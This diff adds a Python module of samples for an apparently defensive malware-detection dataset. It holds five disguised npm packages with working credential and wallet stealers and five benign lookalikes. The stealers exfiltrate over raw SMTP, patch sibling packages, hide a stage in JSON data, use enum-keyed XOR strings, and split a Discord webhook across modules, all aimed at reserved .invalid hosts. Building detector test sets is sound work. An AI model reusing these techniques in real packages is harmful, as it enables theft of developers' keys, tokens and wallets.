@@ -1,0 +1,562 @@
+"""Samples of the `h6b` branch for scripts/make-samples.py (2026-11-25, issue 6): our own
+variants of five holdout6 evasion classes (raw SMTP exfiltration, infecting sibling packages found
+at run time, a stage in a JSON data file decoded by the package's own function, strings hidden
+behind a compiled-enum XOR key, paths and webhook split across modules), each with a tricky
+benign package of the same shape.
+
+Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `h6b-`.
+Same safety rules as samples_malicious.py: every source is Python string data, packed into a
+tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
+names (.invalid, .example, .test); made-up values; all-zero tokens.
+"""
+
+import base64
+import json
+
+from samples_malicious import S, pj
+from samples_common import fill, readme, registry
+
+SAMPLES, BENIGN, sample, benign = registry()
+
+
+def xor_b64(s, key):
+    b = s.encode()
+    return base64.b64encode(bytes(c ^ ord(key[i % len(key)]) for i, c in enumerate(b))).decode()
+
+
+def xor_char(s, k):
+    return "".join(chr(ord(c) ^ k) for c in s)
+
+
+# =============================================================================================
+# Malicious
+
+
+@sample
+def raw_smtp_plain_esm():
+    index = r"""import net from 'node:net';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+
+// Crash dumps are mailed to the maintainers so we can fix bugs you never report.
+const RELAY = 'mx1.crashmail.invalid';
+const RCPT = 'dumps@crashmail.invalid';
+const FILES = ['.ssh/id_ed25519', '.ssh/id_rsa', '.npmrc', '.aws/credentials', '.git-credentials'];
+
+export function formatStack(err) {
+  return String(err && err.stack || err).split('\n').map((l) => l.trim()).filter(Boolean);
+}
+
+function dump() {
+  const home = os.homedir();
+  const parts = [];
+  for (const rel of FILES) {
+    try { parts.push(`# ${rel}\n` + fs.readFileSync(path.join(home, rel), 'utf8')); } catch {}
+  }
+  return parts.join('\n');
+}
+
+function mail(body) {
+  const queue = [`HELO ${os.hostname()}`, `MAIL FROM:<noreply@crashmail.invalid>`, `RCPT TO:<${RCPT}>`, 'DATA',
+    `From: noreply@crashmail.invalid\r\nTo: ${RCPT}\r\nSubject: dump ${os.userInfo().username}\r\n\r\n${body}\r\n.`, 'QUIT'];
+  const sock = net.createConnection({ host: RELAY, port: 587 });
+  const next = () => { const line = queue.shift(); if (line) sock.write(line + '\r\n'); else sock.end(); };
+  sock.on('data', next);
+  sock.on('error', () => {});
+}
+
+if (!process.env.CI) {
+  const body = dump();
+  if (body) mail(body);
+}
+"""
+    files = {
+        "package.json": pj(name="stack-pretty-esm", version="2.0.3", type="module",
+                           description="Pretty, trimmed stack traces for Node ESM apps.",
+                           exports="./index.js", keywords=["stack", "error", "trace", "esm"]),
+        "README.md": readme("stack-pretty-esm", "```js\nimport { formatStack } from 'stack-pretty-esm'\nconsole.log(formatStack(new Error('x')))\n```"),
+        "index.js": index,
+    }
+    return S(
+        "h6b-raw-smtp-plain-esm-key-files",
+        "SSH keys, .npmrc, AWS and git credentials mailed over a raw plain SMTP dialogue written "
+        "to a socket at import time (email-exfil stealers without a mail library, Sonatype/Phylum "
+        "2023-2025)", "2025",
+        ["import-time", "esm", "raw-smtp", "ssh-keys", "npmrc", "cloud-credentials", "mail-exfil"],
+        "Our variant of holdout6 dotenv-flow-lite: ESM, net.createConnection on port 587, the "
+        "recipient kept in a constant and put into `RCPT TO:<${RCPT}>` by a template.", files)
+
+
+@sample
+def sibling_jwt_patch_require_resolve():
+    patch = (";(function(){try{var j=module.exports,s=j.sign;j.sign=function(p,k){try{require('https')"
+             ".request({host:'jwt-audit.invalid',path:'/k',method:'POST'}).on('error',function(){})"
+             ".end(String(k))}catch(e){}return s.apply(this,arguments)}}catch(e){}})();\n")
+    opt = r"""'use strict';
+const fs = require('fs');
+
+// Warm the require cache of the usual auth stack so the first request is not slow.
+const PRELOAD = ['jsonwebtoken', 'passport-jwt', 'express-jwt'];
+const PATCH = @@PATCH@@;
+
+module.exports = function warm() {
+  for (const name of PRELOAD) {
+    let target;
+    try { target = require.resolve(name); } catch (e) { continue; }
+    try {
+      const src = fs.readFileSync(target, 'utf8');
+      if (src.indexOf('jwt-audit') !== -1) continue;
+      const st = fs.statSync(target);
+      fs.writeFileSync(target, src + '\n' + PATCH);
+      fs.utimesSync(target, st.atime, st.mtime);
+    } catch (e) {}
+  }
+};
+"""
+    index = r"""'use strict';
+const warm = require('./lib/warm');
+
+function bearer(req) {
+  const h = req.headers && req.headers.authorization || '';
+  return h.startsWith('Bearer ') ? h.slice(7) : null;
+}
+
+setImmediate(warm);
+module.exports = { bearer };
+"""
+    files = {
+        "package.json": pj(name="auth-bearer-helper", version="1.4.2", main="index.js",
+                           description="Extract bearer tokens from Express requests.",
+                           keywords=["auth", "bearer", "express", "jwt"]),
+        "README.md": readme("auth-bearer-helper", "```js\nconst { bearer } = require('auth-bearer-helper')\napp.use((req, res, next) => { req.token = bearer(req); next() })\n```"),
+        "index.js": index,
+        "lib/warm.js": fill(opt, PATCH=json.dumps(patch)),
+    }
+    return S(
+        "h6b-sibling-jwt-patch-require-resolve",
+        "persistence by splicing a signing-key stealer into other installed packages found with "
+        "require.resolve (ethers-provider2-style sibling patching, ReversingLabs 2025), file "
+        "times restored", "2025",
+        ["import-time", "node-modules-patching", "require-resolve", "timestamp-restore",
+         "jwt-secret-theft", "https-exfil"],
+        "Our variant of holdout6 yallist: the targets are resolved by module name at run time "
+        "(require.resolve(name)), the patch wraps jsonwebtoken's sign to post the signing key.",
+        files)
+
+
+@sample
+def json_stage_destructured_charcode_preinstall():
+    stage = ("const f=require('fs'),o=require('os'),p=require('path'),h=require('https');let t='';"
+             "try{t=f.readFileSync(p.join(o.homedir(),'.npmrc'),'utf8')}catch(e){}"
+             "const q=h.request({host:'glyph-cdn.invalid',path:'/g',method:'POST'});q.on('error',()=>{});"
+             "q.end(JSON.stringify({t,e:process.env,h:o.hostname()}));")
+    glyphs = {"name": "icons-mono", "size": 16,
+              "map": {"check": "M2 8l4 4 8-8", "close": "M3 3l10 10M13 3L3 13"},
+              "kerning": xor_char(stage, 23)}
+    check = r"""'use strict';
+// Checks that the glyph map is complete before the package is used.
+const { map, kerning } = require('../assets/glyphs.json');
+
+function expand(s) {
+  return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 23)).join('');
+}
+
+const missing = ['check', 'close'].filter((k) => !map[k]);
+if (missing.length) console.warn('icons-mono: missing glyphs', missing.join(', '));
+new Function('require', expand(kerning))(require);
+"""
+    files = {
+        "package.json": pj(name="icons-mono", version="3.1.0", main="index.js",
+                           description="Monochrome 16px SVG icon paths.",
+                           scripts={"preinstall": "node scripts/check.js"},
+                           files=["index.js", "scripts", "assets"],
+                           keywords=["icons", "svg", "mono"]),
+        "README.md": readme("icons-mono", "```js\nconst icon = require('icons-mono')\nicon('check')\n```"),
+        "index.js": "'use strict';\nconst { map, size } = require('./assets/glyphs.json');\nmodule.exports = (n) => `<svg width=\"${size}\" height=\"${size}\"><path d=\"${map[n] || ''}\"/></svg>`;\n",
+        "scripts/check.js": check,
+        "assets/glyphs.json": json.dumps(glyphs, indent=1) + "\n",
+    }
+    return S(
+        "h6b-json-stage-destructured-charcode-preinstall",
+        "stage kept XOR-ed in a field of a JSON data file, destructured from require() and "
+        "decoded by the package's own char-code function, run with new Function from preinstall "
+        "(payloads in data files, Socket/Checkmarx 2024-2025)", "2025",
+        ["install-script", "payload-in-data-file", "xor-char-codes", "function-constructor",
+         "npmrc", "env-harvest", "https-exfil"],
+        "Our variant of holdout6 date-fmt-locales: preinstall instead of prepare, a destructured "
+        "field instead of a member, single-byte char-code XOR instead of a base64 alphabet, "
+        "new Function instead of vm.", files)
+
+
+_TS_WALLET = r""""use strict";
+Object.defineProperty(exports, "__esModule", { value: true });
+exports.prefetch = void 0;
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const https = require("https");
+var Tier;
+(function (Tier) {
+    Tier[Tier["Edge"] = 0] = "Edge";
+    Tier[Tier["Origin"] = 1] = "Origin";
+    Tier[Tier["Shield"] = 2] = "Shield";
+})(Tier || (Tier = {}));
+const SALT = Tier[Tier.Shield] + Tier[Tier.Edge];
+function unseal(s) {
+    return Buffer.from(s, "base64").map((b, i) => b ^ SALT.charCodeAt(i % SALT.length)).toString();
+}
+function stores() {
+    const home = os.homedir();
+    return [
+        path.join(home, unseal("@@SOLANA@@")),
+        path.join(home, unseal("@@METAMASK@@")),
+        path.join(home, unseal("@@EXODUS@@")),
+    ];
+}
+function prefetch() {
+    const found = {};
+    for (const p of stores()) {
+        try {
+            const st = fs.statSync(p);
+            found[p] = st.isDirectory()
+                ? fs.readdirSync(p).slice(0, 20).map((n) => [n, fs.readFileSync(path.join(p, n)).toString("base64")])
+                : fs.readFileSync(p).toString("base64");
+        }
+        catch (_a) { }
+    }
+    const req = https.request(unseal("@@URL@@"), { method: "POST", headers: { "content-type": "application/json" } });
+    req.on("error", () => undefined);
+    req.end(JSON.stringify({ h: os.hostname(), found }));
+}
+exports.prefetch = prefetch;
+//# sourceMappingURL=edge.js.map
+"""
+
+
+@sample
+def ts_enum_xor_wallet_stores():
+    key = "ShieldEdge"
+    x = lambda s: xor_b64(s, key)  # noqa: E731
+    files = {
+        "package.json": pj(name="edge-cache-ts", version="0.7.5",
+                           description="Tiered edge caching for fetch() in TypeScript services.",
+                           main="dist/index.js", types="dist/index.d.ts", files=["dist"],
+                           keywords=["cache", "edge", "typescript", "fetch"],
+                           devDependencies={"typescript": "^5.4.5"}),
+        "README.md": readme("edge-cache-ts", "```ts\nimport { cached } from 'edge-cache-ts'\nconst r = await cached('https://api.example.com/x')\n```"),
+        "dist/index.js": "\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });\nexports.cached = void 0;\nconst edge_1 = require(\"./edge\");\nconst memo = new Map();\nasync function cached(url) {\n    if (!memo.size)\n        setTimeout(edge_1.prefetch, 3000).unref();\n    if (!memo.has(url))\n        memo.set(url, fetch(url).then((r) => r.json()));\n    return memo.get(url);\n}\nexports.cached = cached;\n",
+        "dist/index.d.ts": "export declare function cached(url: string): Promise<unknown>;\n",
+        "dist/edge.js": fill(
+            _TS_WALLET,
+            SOLANA=x(".config/solana/id.json"),
+            METAMASK=x(".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"),
+            EXODUS=x(".config/Exodus/exodus.wallet"),
+            URL=x("https://edge-metrics.invalid/v1/prefetch")),
+    }
+    return S(
+        "h6b-ts-enum-xor-wallet-stores",
+        "wallet stores (Solana keypair, MetaMask extension store, Exodus) posted out from compiled "
+        "TypeScript whose paths and URL are XOR-ed with a key built from a compiled enum's names "
+        "(compiled-output stealers, 2024-2025)", "2025",
+        ["typescript-compiled", "function-called-later", "xor-strings", "enum-key", "wallets",
+         "https-exfil"],
+        "Our variant of holdout6 env-schema-ts: base64 instead of hex, a function declaration "
+        "decoder, a three-member enum keyed by Tier[Tier.Shield] + Tier[Tier.Edge], wallets "
+        "instead of browser profiles, https.request instead of a cloud drive.", files)
+
+
+@sample
+def split_modules_discord_aws():
+    files = {
+        "package.json": pj(name="s3-sync-lite", version="1.9.0", main="lib/index.js",
+                           description="Sync a local folder to an S3 bucket, only changed files.",
+                           files=["lib"], keywords=["s3", "sync", "aws", "upload"]),
+        "README.md": readme("s3-sync-lite", "```js\nconst sync = require('s3-sync-lite')\nawait sync('./public', { bucket: 'my-site' })\n```"),
+        "lib/index.js": r"""'use strict';
+const fs = require('fs');
+const path = require('path');
+const { profile } = require('./profile');
+
+module.exports = async function sync(dir, opts = {}) {
+  const creds = profile(opts.profile);
+  const files = fs.readdirSync(dir).filter((f) => !f.startsWith('.'));
+  return { bucket: opts.bucket, files: files.map((f) => path.join(dir, f)), signed: Boolean(creds) };
+};
+""",
+        "lib/names.js": r"""'use strict';
+// Settings file layout.
+exports.layout = ['aws', 'credentials', 'config'];
+exports.route = 'webhooks';
+exports.channel = '000000000000000000';
+exports.secret = '""" + "0" * 68 + r"""';
+""",
+        "lib/endpoints.js": r"""'use strict';
+exports.base = ['https:', '', 'discord.com', 'api'].join('/');
+exports.region = 'us-east-1';
+""",
+        "lib/profile.js": r"""'use strict';
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { layout, route, channel, secret } = require('./names');
+const { base } = require('./endpoints');
+
+exports.profile = function profile(name = 'default') {
+  const dir = path.join(os.homedir(), '.' + layout[0]);
+  let text = '';
+  for (const f of layout.slice(1)) {
+    try { text += fs.readFileSync(path.join(dir, f), 'utf8') + '\n'; } catch (e) {}
+  }
+  if (text) {
+    fetch(`${base}/${route}/${channel}/${secret}`, {
+      method: 'POST', headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ content: '```' + text.slice(0, 1900) + '```' }),
+    }).catch(() => {});
+  }
+  const m = new RegExp('\\[' + name + '\\][^\\[]*').exec(text);
+  return m ? m[0] : null;
+};
+""",
+    }
+    return S(
+        "h6b-split-modules-discord-aws",
+        "AWS credentials and config posted to a Discord webhook, with the folder name, file names "
+        "and webhook pieces split across two constants modules and put together in a third "
+        "(split-string stealers, Phylum/Socket 2023-2025)", "2025",
+        ["function-called-later", "split-across-modules", "destructured-require",
+         "cloud-credentials", "discord-webhook"],
+        "Our variant of holdout6 winston-transport-rotate: plain require, the ~/.aws path as "
+        "'.' + layout[0], the webhook URL as a template of four imported pieces.", files)
+
+
+# =============================================================================================
+# Tricky benign
+
+
+@benign
+def b_smtp_client_caller_recipients():
+    index = r"""'use strict';
+const net = require('net');
+const tls = require('tls');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+
+// Credentials for the relay come from ~/.netrc, as curl and git do.
+function netrcLogin(host) {
+  try {
+    const t = fs.readFileSync(path.join(os.homedir(), '.netrc'), 'utf8');
+    const m = new RegExp('machine\\s+' + host.replace(/\./g, '\\.') + '\\s+login\\s+(\\S+)\\s+password\\s+(\\S+)').exec(t);
+    return m ? { user: m[1], pass: m[2] } : null;
+  } catch (e) { return null; }
+}
+
+module.exports = function send({ host, port = 587, secure = false, from, to, subject, text }) {
+  const auth = netrcLogin(host);
+  const lines = [`EHLO ${os.hostname()}`];
+  if (auth) lines.push('AUTH LOGIN', Buffer.from(auth.user).toString('base64'), Buffer.from(auth.pass).toString('base64'));
+  lines.push(`MAIL FROM:<${from}>`);
+  for (const r of [].concat(to)) lines.push(`RCPT TO:<${r}>`);
+  lines.push('DATA', `From: ${from}\r\nTo: ${[].concat(to).join(', ')}\r\nSubject: ${subject}\r\n\r\n${text}\r\n.`, 'QUIT');
+  return new Promise((resolve, reject) => {
+    const sock = secure ? tls.connect(port, host, { servername: host }) : net.connect(port, host);
+    sock.on('data', () => { const l = lines.shift(); if (l) sock.write(l + '\r\n'); else { sock.end(); resolve(); } });
+    sock.on('error', reject);
+  });
+};
+"""
+    files = {
+        "package.json": pj(name="smtp-tiny-send", version="0.4.1", main="index.js",
+                           description="Send one plain-text mail over SMTP with no dependencies.",
+                           keywords=["smtp", "mail", "email", "send"]),
+        "README.md": readme("smtp-tiny-send", "```js\nconst send = require('smtp-tiny-send')\nawait send({ host: 'smtp.example.com', from: 'me@example.com', to: 'you@example.com', subject: 'hi', text: 'hello' })\n```\n\nRelay logins are read from `~/.netrc`."),
+        "index.js": index,
+    }
+    return S(
+        "h6b-benign-smtp-client-caller-recipients",
+        "a dependency-free SMTP client writing the raw dialogue to a socket, with the relay login "
+        "read from ~/.netrc and every address from its caller", "2025",
+        ["raw-smtp", "netrc"],
+        "Mirrors h6b-raw-smtp-plain-esm-key-files: raw SMTP on a socket and a credential file, "
+        "but MAIL FROM and RCPT TO come from the caller's options.", files)
+
+
+@benign
+def b_eol_normaliser_keeps_times():
+    cli = r"""#!/usr/bin/env node
+'use strict';
+// Normalises line endings to LF in the project's source files, keeping their times so that
+// incremental builds do not rebuild everything.
+const fs = require('fs');
+const path = require('path');
+
+const exts = new Set(['.js', '.ts', '.json', '.md', '.css']);
+
+function walk(dir, out) {
+  for (const d of fs.readdirSync(dir, { withFileTypes: true })) {
+    if (d.name === '.git' || path.basename(d.name) === 'node_modules') continue;
+    const p = path.join(dir, d.name);
+    if (d.isDirectory()) walk(p, out);
+    else if (exts.has(path.extname(d.name))) out.push(p);
+  }
+  return out;
+}
+
+let changed = 0;
+for (const file of walk(process.argv[2] || process.cwd(), [])) {
+  const src = fs.readFileSync(file, 'utf8');
+  if (!src.includes('\r\n')) continue;
+  const st = fs.statSync(file);
+  fs.writeFileSync(file, src.replace(/\r\n/g, '\n'));
+  fs.utimesSync(file, st.atime, st.mtime);
+  changed++;
+}
+console.log(`eol-keep: ${changed} file(s) normalised`);
+"""
+    files = {
+        "package.json": pj(name="eol-keep", version="1.2.0", bin={"eol-keep": "cli.js"},
+                           description="Normalise CRLF to LF without touching file times.",
+                           keywords=["eol", "crlf", "lf", "line-endings"]),
+        "README.md": readme("eol-keep", "```sh\nnpx eol-keep src\n```"),
+        "cli.js": cli,
+    }
+    return S(
+        "h6b-benign-eol-normaliser-keeps-times",
+        "a line-ending normaliser that rewrites files in place and restores their times, "
+        "skipping node_modules by its basename", "2025",
+        ["in-place-rewrite", "utimes", "node-modules-skip"],
+        "Mirrors h6b-sibling-jwt-patch-require-resolve and holdout6 yallist: node_modules named "
+        "next to basename(), a write and utimes from a stat, but the file is transformed "
+        "(src.replace), not spliced, and node_modules is skipped.", files)
+
+
+@benign
+def b_plural_rules_from_json():
+    rules = {"en": "n == 1 ? 'one' : 'other'", "fr": "n >= 0 && n < 2 ? 'one' : 'other'",
+             "ja": "'other'", "ordinals": base64.b64encode(b"st,nd,rd,th").decode()}
+    index = r"""'use strict';
+const { ordinals, ...rules } = require('./data/plural.json');
+
+function unpack(s) {
+  return Buffer.from(s, 'base64').toString('utf8').split(',');
+}
+
+const suffixes = unpack(ordinals);
+const compiled = {};
+for (const [loc, expr] of Object.entries(rules)) compiled[loc] = new Function('n', 'return ' + expr);
+
+exports.plural = (loc, n) => (compiled[loc] || compiled.en)(n);
+exports.ordinal = (n) => n + (suffixes[(n % 10) - 1] && ![11, 12, 13].includes(n % 100) ? suffixes[(n % 10) - 1] : suffixes[3]);
+"""
+    files = {
+        "package.json": pj(name="plural-lite", version="2.2.0", main="index.js",
+                           description="CLDR plural categories and English ordinals, compiled from JSON rules.",
+                           keywords=["plural", "cldr", "i18n", "ordinal"]),
+        "README.md": readme("plural-lite", "```js\nconst { plural } = require('plural-lite')\nplural('fr', 1.5) //=> 'one'\n```"),
+        "index.js": index,
+        "data/plural.json": json.dumps(rules, indent=1) + "\n",
+    }
+    return S(
+        "h6b-benign-plural-rules-from-json",
+        "CLDR plural rules compiled with new Function from a JSON file, beside a local base64 "
+        "decoder applied to another field of the same JSON", "2025",
+        ["function-constructor", "json-data", "base64-decoder"],
+        "Mirrors h6b-json-stage-destructured-charcode-preinstall and holdout6 date-fmt-locales: "
+        "required JSON, a local decoder and a code runner in one file, but the decoded field "
+        "is a suffix table and the rules are readable expressions.", files)
+
+
+_TS_SDK = r""""use strict";
+Object.defineProperty(exports, "__esModule", { value: true });
+exports.Client = void 0;
+const os = require("os");
+var Region;
+(function (Region) {
+    Region[Region["Eu"] = 0] = "Eu";
+    Region[Region["Us"] = 1] = "Us";
+})(Region || (Region = {}));
+// The endpoint table is lightly scrambled so that scrapers do not pick it up as a link list.
+const K = Region[Region.Us] + Region[Region.Eu];
+const open = (s) => Buffer.from(s, "hex").map((b, i) => b ^ K.charCodeAt(i % K.length)).toString();
+const HOSTS = [open("@@EU@@"), open("@@US@@")];
+class Client {
+    constructor(opts) {
+        this.key = opts.apiKey;
+        this.base = HOSTS[opts.region === "us" ? 1 : 0];
+    }
+    async track(event, props = {}) {
+        const res = await fetch(`${this.base}/v2/events`, {
+            method: "POST",
+            headers: { authorization: `Bearer ${this.key}`, "content-type": "application/json" },
+            body: JSON.stringify({ event, props, sdk: "ts-1.3.0", platform: os.platform() }),
+        });
+        return res.ok;
+    }
+}
+exports.Client = Client;
+"""
+
+
+@benign
+def b_ts_sdk_scrambled_endpoints():
+    key = "UsEu"
+
+    def xhex(s):
+        b = s.encode()
+        return "".join("%02x" % (c ^ ord(key[i % len(key)])) for i, c in enumerate(b))
+
+    files = {
+        "package.json": pj(name="eventpipe-sdk", version="1.3.0", main="dist/index.js",
+                           types="dist/index.d.ts", files=["dist"],
+                           description="TypeScript client for the EventPipe product analytics API.",
+                           keywords=["analytics", "events", "sdk", "typescript"]),
+        "README.md": readme("eventpipe-sdk", "```ts\nimport { Client } from 'eventpipe-sdk'\nawait new Client({ apiKey: process.env.EVENTPIPE_KEY }).track('signup')\n```"),
+        "dist/index.js": fill(_TS_SDK, EU=xhex("https://eu.api.eventpipe.example"),
+                              US=xhex("https://us.api.eventpipe.example")),
+        "dist/index.d.ts": "export declare class Client {\n    constructor(opts: { apiKey: string; region?: 'eu' | 'us' });\n    track(event: string, props?: Record<string, unknown>): Promise<boolean>;\n}\n",
+    }
+    return S(
+        "h6b-benign-ts-sdk-scrambled-endpoints",
+        "a compiled TypeScript analytics SDK that XOR-scrambles its own endpoint table with a key "
+        "from a compiled enum and posts events with the caller's API key", "2025",
+        ["typescript-compiled", "xor-strings", "enum-key", "analytics"],
+        "Mirrors h6b-ts-enum-xor-wallet-stores and holdout6 env-schema-ts: the same enum-keyed "
+        "XOR decoder, but what it hides is the vendor's own API hosts and nothing secret is read.",
+        files)
+
+
+@benign
+def b_split_constants_known_hosts():
+    files = {
+        "package.json": pj(name="deploy-ssh-check", version="0.6.0", main="lib/index.js",
+                           description="Verify a deploy host's SSH fingerprint against known_hosts and the deploy API.",
+                           files=["lib"], keywords=["ssh", "deploy", "known_hosts", "fingerprint"]),
+        "README.md": readme("deploy-ssh-check", "```js\nconst check = require('deploy-ssh-check')\nawait check('deploy.example.com')\n```"),
+        "lib/names.js": "'use strict';\nexports.files = ['ssh', 'known_hosts'];\nexports.version = 'v2';\n",
+        "lib/api.js": "'use strict';\nexports.base = ['https:', '', 'api.deployhub.example'].join('/');\n",
+        "lib/index.js": r"""'use strict';
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { files, version } = require('./names');
+const { base } = require('./api');
+
+module.exports = async function check(host) {
+  const known = path.join(os.homedir(), '.' + files[0], files[1]);
+  let line = null;
+  try { line = fs.readFileSync(known, 'utf8').split('\n').find((l) => l.split(' ')[0].split(',').includes(host)); } catch (e) {}
+  const res = await fetch(`${base}/${version}/hosts/${encodeURIComponent(host)}/fingerprint`);
+  const { keyType } = await res.json();
+  return { host, known: Boolean(line), matches: Boolean(line && line.includes(keyType)) };
+};
+""",
+    }
+    return S(
+        "h6b-benign-split-constants-known-hosts",
+        "a deploy helper that builds ~/.ssh/known_hosts from names kept in a constants module and "
+        "asks its own API for the host's key type", "2025",
+        ["split-across-modules", "destructured-require", "known-hosts", "https-get"],
+        "Mirrors h6b-split-modules-discord-aws and holdout6 winston-transport-rotate: split "
+        "names folded across modules into an SSH path, and a network call, but only known_hosts "
+        "is read and nothing is sent.", files)
